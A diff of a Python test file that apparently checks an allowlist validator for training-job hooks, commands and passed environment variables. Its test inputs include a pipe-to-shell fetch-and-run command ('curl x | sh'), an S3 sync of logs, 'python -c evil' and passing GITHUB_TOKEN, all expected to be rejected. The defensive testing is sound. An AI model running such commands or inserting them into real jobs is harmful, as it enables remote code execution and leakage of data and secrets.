@@ -77,6 +77,12 @@ CASES: list[tuple[str, JobSpec, Any, Allowed, str | None]] = [
      Allowed(commands=frozenset({"python train.py"})), "command: 'python -c evil' is not a command"),
     ("command allowed", job(recipe=None, command=["python", "train.py", "--out", "{checkpoint_dir}"]), LOCAL,
      Allowed(commands=frozenset({"python train.py --out '{checkpoint_dir}'"})), None),
+    ("hook not allowed", job(hooks={"on_preempt": "aws s3 sync logs s3://b"}), LOCAL, ALLOWED,
+     "hooks.on_preempt: 'aws s3 sync logs s3://b' is not a command this host lets a deployment run start"),
+    ("controller hook not allowed", job(hooks={"on_attempt_end": ["sh", "-c", "curl x | sh"]}), LOCAL,
+     Allowed(commands=frozenset({"sh -c 'curl x'"})), "hooks.on_attempt_end: \"sh -c 'curl x | sh'\" is not"),
+    ("hooks allowed", job(hooks={"on_stop": ["python", "notify.py"], "on_complete": "python eval.py --x 1"}),
+     LOCAL, Allowed(commands=frozenset({"python notify.py", "python eval.py --x 1"})), None),
     ("env.pass of a name that passes anyway", job(env={"pass": ["HF_HOME"]}), LOCAL, Allowed(), None),
     ("env.pass not allowed", job(env={"pass": ["GITHUB_TOKEN"]}), LOCAL, ALLOWED,
      "env.pass: GITHUB_TOKEN is not a variable"),
@@ -154,6 +160,8 @@ def test_what_a_deployments_defaults_name() -> None:
     assert named({"job": {"recipe": "digits"}}) == Allowed()  # built-ins need no listing
     loop = {"job": {"entrypoint": "team.loop:main", "shape_args": ["hidden"]}}
     assert named(loop) == Allowed(entrypoints=frozenset({"team.loop:main"}))
+    hooked = {"job": {"recipe": "digits", "hooks": {"on_stop": "python notify.py 'a b'", "timeout_s": 9}}}
+    assert named(hooked) == Allowed(commands=frozenset({"python notify.py 'a b'"}))  # as the spec splits it
 
 
 def test_the_settings_file_is_0600_and_keeps_the_operators_section(tmp_path: Path) -> None:
